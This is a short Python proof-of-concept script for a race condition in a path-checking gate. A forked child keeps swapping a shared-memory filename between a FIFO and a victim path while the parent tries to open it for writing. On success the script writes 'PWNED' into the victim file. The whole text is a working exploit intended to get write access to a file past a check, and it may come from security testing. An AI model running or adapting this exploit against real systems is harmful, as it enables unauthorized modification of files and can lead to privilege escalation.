# The gate leaves a FIFO open without a reader to the kernel (single thread):
# another process sharing the page swaps the path before the kernel reads it.
import ctypes, mmap, os, signal, sys, time
fifo, victim = sys.argv[1], sys.argv[2]
libc = ctypes.CDLL(None, use_errno=True)
m = mmap.mmap(-1, 4096)  # MAP_SHARED: the child below sees the same page
a = fifo.encode() + b"\0"
b = victim.encode() + b"\0"
addr = ctypes.addressof(ctypes.c_char.from_buffer(m))
child = os.fork()
if child == 0:
    while True:
        m[0:len(a)] = a
        for _ in range(200): pass
        m[0:len(b)] = b
signal.signal(signal.SIGALRM, lambda *x: None)
won = 0
deadline = time.time() + float(sys.argv[3]) if len(sys.argv) > 3 else time.time() + 20
while time.time() < deadline:
    signal.setitimer(signal.ITIMER_REAL, 0.05)
    fd = libc.open(ctypes.c_void_p(addr), os.O_WRONLY)
    signal.setitimer(signal.ITIMER_REAL, 0)
    if fd >= 0:
        st = os.fstat(fd)
        if not (st.st_mode & 0o170000) == 0o010000:  # not the FIFO
            os.write(fd, b"PWNED\n")
            won += 1
            os.close(fd)
            break
        os.close(fd)
os.kill(child, 9)
os.waitpid(child, 0)
print("won" if won else "lost", flush=True)
